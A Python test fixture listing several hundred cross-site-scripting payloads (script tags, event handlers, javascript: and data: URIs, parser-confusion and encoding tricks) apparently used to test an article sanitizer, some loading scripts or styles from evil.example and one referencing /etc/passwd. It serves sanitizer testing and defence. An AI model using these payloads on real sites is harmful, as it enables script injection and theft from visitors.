"""Attacks on whoever shows an article; written for these tests."""

_ALERT = "alert(1)"

_ELEMENTS = (
    "<script>{0}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script\n>{0}</script\n>", "<script/x>{0}</script>", "<scr<script>ipt>{0}</scr</script>ipt>",
    "<script>{0}", "<<script>{0}//<</script>", "<script type=module>{0}</script>", "</script><script>{0}</script>", "<script>/*<p>*/{0}</script>",
    "<iframe src=javascript:{0}></iframe>", "<iframe srcdoc='<script>{0}</script>'></iframe>", "<iframe src='data:text/html,<script>{0}</script>'></iframe>",
    "<iframe onload={0}></iframe>", "<iframe/onload={0}>", "<iframe src=x title='\"><img src=x onerror={0}>'></iframe>", "<frame src=javascript:{0}>", "<frameset onload={0}>",
    "<object data=javascript:{0}></object>", "<object type=text/x-scriptlet data=x></object>", "<embed src=javascript:{0}>", "<embed code=x allowscriptaccess=always>", "<applet code=x></applet>",
    "<svg onload={0}>", "<svg/onload={0}>", "<svg><script>{0}</script></svg>", "<svg><script xlink:href=data:,{0} />", "<svg><a xlink:href=javascript:{0}><text>x</text></a></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:{0}>", "<svg><foreignObject><iframe src=javascript:{0}></foreignObject></svg>",
    "<svg><use href=data:image/svg+xml,{0}#x /></svg>", "<svg><image href=x onerror={0}></svg>", "<svg><style><img src=x onerror={0}></style></svg>", "<svg><title><img src=x onerror={0}></title></svg>",
    "<svg><desc><img src=x onerror={0}></desc></svg>", "<svg></p><style><a id=\"</style><img src=1 onerror={0}>\">", "<math href=javascript:{0}>x</math>", "<math><mi xlink:href=javascript:{0}>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={0}&gt;\">", "<math><annotation-xml encoding=text/html><img src=x onerror={0}></annotation-xml></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:{0}>x</maction></math>", "<form action=javascript:{0}><input type=submit></form>", "<form><button formaction=javascript:{0}>x</button></form>",
    "<isindex type=image src=1 onerror={0}>", "<input autofocus onfocus={0}>", "<input type=image src=x onerror={0}>", "<select autofocus onfocus={0}>", "<textarea autofocus onfocus={0}>",
    "<keygen autofocus onfocus={0}>", "<button onclick={0}>x</button>", "<body onload={0}>", "<body background=javascript:{0}>", "<html onmouseover={0}>", "<head><base href=//evil.example/></head>",
    "<base href=javascript:{0}//>", "<link rel=stylesheet href=javascript:{0}>", "<link rel=import href=data:text/html,{0}>", "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<meta http-equiv=set-cookie content=x>", "<style>@import '//evil.example/x.css';</style>", "<style>body{{background:url(javascript:{0})}}</style>", "<style><img src=x onerror={0}></style>",
    "<video src=x onerror={0}></video>", "<video><source onerror={0}></video>", "<video poster=javascript:{0}></video>", "<audio src=x onerror={0}></audio>", "<audio autoplay onloadstart={0} src=x>",
    "<details open ontoggle={0}>x</details>", "<details><summary onclick={0}>x</summary></details>", "<marquee onstart={0}>x</marquee>", "<marquee behavior=alternate onbounce={0}>x</marquee>",
    "<bgsound src=javascript:{0}>", "<layer src=javascript:{0}></layer>", "<xml id=x><img src=x onerror={0}></xml>", "<template><script>{0}</script></template>", "<noscript><p title=\"</noscript><img src=x onerror={0}>\">",
    "<noembed><img src=x onerror={0}></noembed>", "<noframes><img src=x onerror={0}></noframes>", "<xmp><img src=x onerror={0}></xmp>", "<plaintext><img src=x onerror={0}>", "<listing>&lt;img src=x onerror={0}&gt;</listing>",
    "<dialog open onclose={0}>x</dialog>", "<portal src=javascript:{0}></portal>", "<x onclick={0}>x</x>", "<custom-tag onpointerover={0}>x</custom-tag>", "<image src=x onerror={0}>", "<title><img src=x onerror={0}></title>",
)  # fmt: skip
_ATTRIBUTES = (
    "<img src=x onerror={0}>", "<img src=x onerror='{0}'>", "<img src=x oNeRrOr={0}>", "<img/src=x/onerror={0}>", "<img src=x\nonerror={0}>", "<img src=x\tonerror\t=\t{0}>", "<img src=x\x0conerror={0}>",
    "<img src='x'onerror={0}>", "<img src=`x`onerror={0}>", "<img \"\"\"><script>{0}</script>\">", "<img src=x:x onerror={0}>", "<img src=x onerror={0} //", "<img src=javascript:{0}>", "<img src=&#106;avascript:{0}>",
    "<img src=\"jav\tascript:{0}\">", "<img src=\"jav&#x0A;ascript:{0}\">", "<img dynsrc=javascript:{0}>", "<img lowsrc=javascript:{0}>", "<img srcset='x 1x, javascript:{0} 2x'>", "<img style=background:url(javascript:{0})>",
    "<img src=data:image/svg+xml;base64,PHN2Zy8+ onload={0}>", "<img data-src=javascript:{0}>", "<img data-src='\" onerror={0} x=\"'>", "<img alt='\"><script>{0}</script>' src=x>", "<img alt=\"`><script>{0}</script>\" src=x>",
    "<a href=javascript:{0}>x</a>", "<a href=JaVaScRiPt:{0}>x</a>", "<a href=' javascript:{0}'>x</a>", "<a href='\x01javascript:{0}'>x</a>", "<a href='java\nscript:{0}'>x</a>", "<a href='java\x00script:{0}'>x</a>",
    "<a href=&#x6A;&#x61;vascript:{0}>x</a>", "<a href=javascript&colon;{0}>x</a>", "<a href=java&Tab;script:{0}>x</a>", "<a href=java&NewLine;script:{0}>x</a>", "<a href=&#0000106avascript:{0}>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>", "<a href=livescript:{0}>x</a>", "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>", "<a href='data:text/html,<script>{0}</script>'>x</a>", "<a href=feed:javascript:{0}>x</a>",
    "<a href=view-source:javascript:{0}>x</a>", "<a href=blob:https://evil.example/x>x</a>", "<a href=file:///etc/passwd>x</a>", "<a href=ftp://evil.example/>x</a>", "<a href=tel:+1 onclick={0}>x</a>",
    "<a href='//evil.example\" onclick={0}'>x</a>", "<a href=\"https://x.example/\" onmouseover={0}>x</a>", "<a href='x' style='behavior:url(x.htc)'>x</a>", "<a ping=//evil.example href=x onclick={0}>x</a>", "<a target=_blank href=javascript:{0}>x</a>",
    "<p onclick={0}>x</p>", "<p style=\"width:expression({0})\">x</p>", "<p style='-moz-binding:url(//evil.example/x.xml#x)'>x</p>", "<p title='</p><script>{0}</script>'>x</p>", "<p lang='\"><script>{0}</script>'>x</p>",
    "<div style='position:fixed;top:0' onmousemove={0}>x</div>", "<div id=location name=cookie onclick={0}>x</div>", "<table background=javascript:{0}><tr><td>x</table>", "<td background=javascript:{0}>x", "<ol type='\" onclick={0}'><li>x</ol>",
    "<blockquote cite=javascript:{0}>x</blockquote>", "<q cite='javascript:{0}'>x</q>", "<time datetime='\" onclick={0}'>x</time>", "<abbr title='\"onmouseover={0}'>x</abbr>", "<font color='\" onclick={0}'>x</font>",
    "<b \x00onclick={0}>x</b>", "<b/onclick={0}>x</b>", "<b 'onclick={0}'>x</b>", "<b \"=\"\"onclick={0}>x</b>", "<br size=\"&{{{0}}}\">", "<p/onmouseover=javascript:{0}>x</p>",
)  # fmt: skip
_TRICKS = (
    "<link href='javascript:{0}'text<<script><\">", "<base\t<<script>src=data:text/html,{0}\n><", "<svg\t<<script><mi title='</title><script>{0}</script>' >",
    "<noembed\t<<script>\x00<div/></input title='<script>{0}</script>'/>",
    "<!--><script>{0}</script>-->", "<!--<img src=\"--><img src=x onerror={0}//\">", "<!-- --!><script>{0}</script> -->", "<![CDATA[<script>{0}</script>]]>", "<![CDATA[><img src=x onerror={0}>]]>", "]]><script>{0}</script>",
    "<?xml version=\"1.0\"?><script>{0}</script>", "<?php <img src=x onerror={0}> ?>", "<!DOCTYPE x [<!ENTITY x '<script>{0}</script>'>]>&x;", "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "<a><b></a><script>{0}</script></b>",
    "<p><a href='<script>{0}</script>'>x", "<table><a href=javascript:{0}>x<tr>", "<table><script>{0}</script></table>", "<select><template><script>{0}</script></template></select>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror={0}>",
    "<svg><p><style><g title=\"</style><img src onerror={0}>\">", "<noscript><style></noscript><img src=x onerror={0}></style>", "<style><style/><img src=x onerror={0}>", "<p id=\"</title><img src=x onerror={0}>\">",
    "<textarea><p title=\"</textarea><img src=x onerror={0}>\">", "<xmp><p title=\"</xmp><svg/onload={0}>\">", "<iframe><p title=\"</iframe><img src=x onerror={0}>\">", "<title><p title=\"</title><img src=x onerror={0}>\">",
    "<scr\x00ipt>{0}</scr\x00ipt>", "<im\x00g src=x onerror={0}>", "<img src=x o\x00nerror={0}>", "<s\u200bcript>{0}</s\u200bcript>", "\ufeff<script>{0}</script>", "<\uff53cript>{0}</\uff53cript>", "<ſcript>{0}</ſcript>", "<ımg src=x onerror={0}>",
    "<p>\u0338<script>{0}</script>", "<\u0338script>{0}", "<script\u0338>{0}</script>", "<img src=x onerror\u0338={0}>", "\ud800<script>{0}</script>\udfff", "<script\ud800>{0}</script>", "<p \ud800 onclick={0}>x</p>", "\x85<script>{0}</script>\u2028",
    "&lt;script&gt;{0}&lt;/script&gt;", "&amp;lt;script&amp;gt;{0}", "&#60;script&#62;{0}&#60;/script&#62;", "&#x3c;img src=x onerror={0}&#x3e;", "&lt;img src=x onerror={0}&gt;", "%3Cscript%3E{0}%3C/script%3E", "\\u003cscript\\u003e{0}", "+ADw-script+AD4-{0}",
)  # fmt: skip

VECTORS = tuple(vector.format(_ALERT) for vector in (*_ELEMENTS, *_ATTRIBUTES, *_TRICKS))
